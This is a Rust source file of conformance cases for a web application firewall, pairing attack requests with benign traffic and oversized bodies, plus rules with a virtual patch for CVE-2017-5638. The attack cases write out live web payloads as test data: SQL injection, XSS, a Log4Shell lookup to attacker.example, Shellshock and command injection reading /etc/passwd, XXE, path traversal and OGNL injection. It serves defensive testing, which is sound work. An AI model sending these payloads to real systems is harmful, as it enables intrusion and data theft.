//! The cases: attacks in each part of a request, benign traffic that must
//! reach the application unchanged, bodies over the limit, the suite's own
//! rules. Every case has its own path, `/conformance/<id>...`, so the echo
//! backend and the log name it.

/// The request a case sends, byte for byte.
#[derive(Debug, Clone)]
pub struct CaseRequest {
    pub method: &'static str,
    /// The request target after `/conformance/<id>` (a path rest and/or a
    /// query), exactly as sent.
    pub rest: String,
    pub headers: Vec<(String, Vec<u8>)>,
    pub body: Vec<u8>,
    /// Send the body with `Transfer-Encoding: chunked` (no length known
    /// in advance).
    pub chunked: bool,
}

/// What the adapter must do with a case.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Expect {
    /// An attack: 403 in block mode; passed unchanged and logged in
    /// monitor mode.
    Attack,
    /// A virtual patch of the suite's rules: 403 in both modes.
    Patched,
    /// Benign: passed unchanged in both modes.
    Benign,
    /// A body over the 64 KiB limit (`over_limit = "block"`): 413 in both
    /// modes, and the application never sees it.
    TooLarge,
}

#[derive(Debug, Clone)]
pub struct Case {
    pub id: &'static str,
    /// The part of the request under test.
    pub part: &'static str,
    pub what: &'static str,
    pub expect: Expect,
    pub request: CaseRequest,
}

impl Case {
    /// The request target: `/conformance/<id>` and the case's rest.
    pub fn target(&self) -> String {
        format!("/conformance/{}{}", self.id, self.request.rest)
    }

    /// The path the log names (the target before `?`).
    pub fn path(&self) -> String {
        let t = self.target();
        match t.split_once('?') {
            Some((p, _)) => p.to_string(),
            None => t,
        }
    }
}

/// The body limit the suite's node.toml sets.
pub const BODY_LIMIT: usize = 64 << 10;

fn get(rest: &str) -> CaseRequest {
    CaseRequest {
        method: "GET",
        rest: rest.to_string(),
        headers: Vec::new(),
        body: Vec::new(),
        chunked: false,
    }
}

fn post(rest: &str, content_type: &str, body: impl Into<Vec<u8>>) -> CaseRequest {
    CaseRequest {
        method: "POST",
        rest: rest.to_string(),
        headers: vec![("Content-Type".into(), content_type.as_bytes().to_vec())],
        body: body.into(),
        chunked: false,
    }
}

fn with(mut r: CaseRequest, name: &str, value: &str) -> CaseRequest {
    r.headers
        .push((name.to_string(), value.as_bytes().to_vec()));
    r
}

const BOUNDARY: &str = "----rampartconformance7d93";

fn multipart(fields: &[(&str, Option<&str>, &str)]) -> Vec<u8> {
    let mut b = String::new();
    for (name, file, value) in fields {
        b.push_str("--");
        b.push_str(BOUNDARY);
        b.push_str("\r\n");
        match file {
            Some(f) => b.push_str(&format!(
                "Content-Disposition: form-data; name=\"{name}\"; filename=\"{f}\"\r\nContent-Type: text/plain\r\n\r\n"
            )),
            None => b.push_str(&format!(
                "Content-Disposition: form-data; name=\"{name}\"\r\n\r\n"
            )),
        }
        b.push_str(value);
        b.push_str("\r\n");
    }
    b.push_str("--");
    b.push_str(BOUNDARY);
    b.push_str("--\r\n");
    b.into_bytes()
}

/// Benign prose, repeated to `n` bytes: what a long review or a support
/// ticket looks like.
fn prose(n: usize) -> Vec<u8> {
    let text = b"I ordered the trail shoes last month and they fit well, although the left one rubs a little at the heel after ten miles. Support was quick to answer and offered an exchange; I'd buy from this shop again. ";
    text.iter().copied().cycle().take(n).collect()
}

/// Every case, in the order they run.
pub fn all() -> Vec<Case> {
    let mut v = vec![
        // Attacks, one per part of a request.
        Case {
            id: "query-sqli",
            part: "query",
            what: "SQL injection (UNION) in a query parameter",
            expect: Expect::Attack,
            request: get("?id=1%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--%20-"),
        },
        Case {
            id: "query-xss-base64",
            part: "query",
            what: "XSS hidden in base64 in a query parameter (nested decoding)",
            expect: Expect::Attack,
            // <script>alert(document.cookie)</script>
            request: get("?state=PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ%2B"),
        },
        Case {
            id: "path-xss",
            part: "path",
            what: "XSS in a path segment",
            expect: Expect::Attack,
            request: get("/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
        },
        Case {
            id: "header-log4shell",
            part: "header",
            what: "Log4Shell JNDI lookup in a custom header",
            expect: Expect::Attack,
            request: with(get(""), "X-Api-Version", "${jndi:ldap://attacker.example/a}"),
        },
        Case {
            id: "header-user-agent-shellshock",
            part: "header",
            what: "Shellshock in the User-Agent",
            expect: Expect::Attack,
            request: with(
                get(""),
                "User-Agent",
                "() { :; }; /bin/bash -c 'cat /etc/passwd'",
            ),
        },
        Case {
            id: "cookie-xss",
            part: "cookie",
            what: "XSS in a cookie",
            expect: Expect::Attack,
            request: with(
                get(""),
                "Cookie",
                "session=7f3a9c; theme=<script>alert(document.domain)</script>",
            ),
        },
        Case {
            id: "form-cmdi",
            part: "body:form",
            what: "OS command injection in a form field",
            expect: Expect::Attack,
            request: post(
                "",
                "application/x-www-form-urlencoded",
                "host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd&count=3",
            ),
        },
        Case {
            id: "json-sqli",
            part: "body:json",
            what: "SQL injection in a nested JSON string",
            expect: Expect::Attack,
            request: post(
                "",
                "application/json",
                r#"{"user":{"name":"admin' OR '1'='1' -- ","remember":true}}"#,
            ),
        },
        Case {
            id: "multipart-xss",
            part: "body:multipart",
            what: "XSS in a multipart form field",
            expect: Expect::Attack,
            request: post(
                "",
                &format!("multipart/form-data; boundary={BOUNDARY}"),
                multipart(&[
                    ("title", None, "Holiday photos"),
                    ("caption", None, "<svg onload=alert(1)>"),
                ]),
            ),
        },
        Case {
            id: "multipart-filename-traversal",
            part: "body:multipart",
            what: "path traversal in an uploaded file's name",
            expect: Expect::Attack,
            request: post(
                "",
                &format!("multipart/form-data; boundary={BOUNDARY}"),
                multipart(&[("upload", Some("../../../../etc/passwd"), "hello")]),
            ),
        },
        Case {
            id: "xml-xxe",
            part: "body:xml",
            what: "XXE: an external entity in an XML body",
            expect: Expect::Attack,
            request: post(
                "",
                "application/xml",
                "<?xml version=\"1.0\"?>\n<!DOCTYPE order [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<order><note>&x;</note></order>",
            ),
        },
        Case {
            id: "json-in-xml-sqli",
            part: "body:xml>json",
            what: "SQL injection in JSON inside an XML field",
            expect: Expect::Attack,
            request: post(
                "",
                "application/xml",
                "<request><payload>{\"q\":\"1 UNION SELECT password FROM users\"}</payload></request>",
            ),
        },
        Case {
            id: "large-body-attack-at-end",
            part: "body (spilled)",
            what: "an attack at the end of a 48 KiB body (NGINX spills it to a file)",
            expect: Expect::Attack,
            request: post("", "application/x-www-form-urlencoded", {
                let mut b = b"review=".to_vec();
                b.extend(prose(48 << 10).iter().map(|&c| if c == b' ' { b'+' } else { c }));
                b.extend_from_slice(b"&next=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
                b
            }),
        },
        // The suite's rules.
        Case {
            id: "rule-virtual-patch",
            part: "header (rule)",
            what: "the suite's virtual patch (OGNL in Content-Type) blocks in both modes",
            expect: Expect::Patched,
            request: post(
                "",
                "%{(#_='multipart/form-data').(#cmd='id')}",
                "a=1",
            ),
        },
        Case {
            id: "reports",
            part: "query (rule)",
            what: "the suite's exception: an SQL filter (blocked without it) passes on /conformance/reports",
            expect: Expect::Benign,
            request: get("?filter=owner%20%3D%20%27me%27%20or%201%3D1%20--"),
        },
        // Bodies over the limit.
        Case {
            id: "too-large-declared",
            part: "body (limit)",
            what: "a 100 KiB body with Content-Length over the 64 KiB limit",
            expect: Expect::TooLarge,
            request: post("", "text/plain", prose(100 << 10)),
        },
        Case {
            id: "too-large-chunked",
            part: "body (limit)",
            what: "a 100 KiB chunked body (no length in advance)",
            expect: Expect::TooLarge,
            request: CaseRequest {
                chunked: true,
                ..post("", "text/plain", prose(100 << 10))
            },
        },
        // Benign traffic, passed byte for byte.
        Case {
            id: "benign-search",
            part: "query",
            what: "a search with prose that says select and or",
            expect: Expect::Benign,
            request: with(
                with(
                    get("?q=Please+select+one+or+more+sizes&page=2&sort=price_asc"),
                    "Accept-Language",
                    "en-GB,en;q=0.9",
                ),
                "Cookie",
                "session=7f3a9c; theme=dark",
            ),
        },
        Case {
            id: "benign-json",
            part: "body:json",
            what: "a JSON order with quotes and semicolons in a note",
            expect: Expect::Benign,
            request: post(
                "",
                "application/json",
                r#"{"items":[{"sku":"TR-42","qty":2}],"note":"Leave it with O'Brien next door; thanks!","gift":false}"#,
            ),
        },
        Case {
            id: "benign-form-utf8",
            part: "body:form",
            what: "a form with UTF-8 names",
            expect: Expect::Benign,
            request: post(
                "",
                "application/x-www-form-urlencoded",
                "name=J%C3%BCrgen+M%C3%BCller&city=M%C3%BCnchen&zip=80331",
            ),
        },
        Case {
            id: "benign-binary",
            part: "body",
            what: "a binary body holding every byte value",
            expect: Expect::Benign,
            request: post("", "application/octet-stream", (0..=255u8).cycle().take(4096).collect::<Vec<u8>>()),
        },
        Case {
            id: "benign-large",
            part: "body (spilled)",
            what: "a 60 KiB review, under the limit (NGINX spills it to a file)",
            expect: Expect::Benign,
            request: post("", "text/plain; charset=utf-8", prose(60 << 10)),
        },
        Case {
            id: "benign-chunked",
            part: "body",
            what: "a chunked JSON body under the limit",
            expect: Expect::Benign,
            request: CaseRequest {
                chunked: true,
                ..post("", "application/json", r#"{"event":"page_view","path":"/shop/trail-shoes"}"#)
            },
        },
        Case {
            id: "benign-multipart",
            part: "body:multipart",
            what: "a multipart upload of a text file",
            expect: Expect::Benign,
            request: post(
                "",
                &format!("multipart/form-data; boundary={BOUNDARY}"),
                multipart(&[
                    ("title", None, "Packing list"),
                    ("file", Some("list.txt"), "tent\nstove\nboots\n"),
                ]),
            ),
        },
        Case {
            id: "benign-headers",
            part: "headers",
            what: "custom headers with commas, quotes and an API token",
            expect: Expect::Benign,
            request: with(
                with(
                    with(get("/items/42"), "X-Custom", "Hello, \"World\""),
                    "Authorization",
                    "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl",
                ),
                "If-None-Match",
                "\"33a64df551425fcc55e4d42a148795d9f25f89d4\"",
            ),
        },
        Case {
            id: "benign-delete",
            part: "method",
            what: "a DELETE",
            expect: Expect::Benign,
            request: CaseRequest {
                method: "DELETE",
                ..get("/items/42")
            },
        },
    ];
    for c in &mut v {
        c.request
            .headers
            .push(("X-Conformance-Case".to_string(), c.id.as_bytes().to_vec()));
    }
    v
}

/// The suite's rules (written next to the node.toml files).
pub const RULES: &str = r#"# The conformance suite's rules: one virtual patch and one exception, so
# every adapter is seen enforcing the rule language too.

ruleset "conformance-patches" priority 1000 {
    # CVE-2017-5638 (Struts 2): an OGNL expression in Content-Type. A
    # virtual patch blocks in monitor mode too.
    rule conformance-ognl "OGNL expression in Content-Type" {
        tags cve, rce
        severity critical
        when contains(header["content-type"], "%{")
          or contains(header["content-type"], "${")
        then virtual_patch
    }
}

ruleset "conformance-exceptions" priority 500 {
    # The report filter holds an SQL-like expression by design: the SQL
    # findings in that one parameter of that one endpoint do not count.
    rule conformance-reports "Report filters look like SQL by design" {
        tags exception
        endpoint "/conformance/reports"
        when exists(query.filter)
        then allow(class = sqli, point = query.filter)
    }
}
"#;
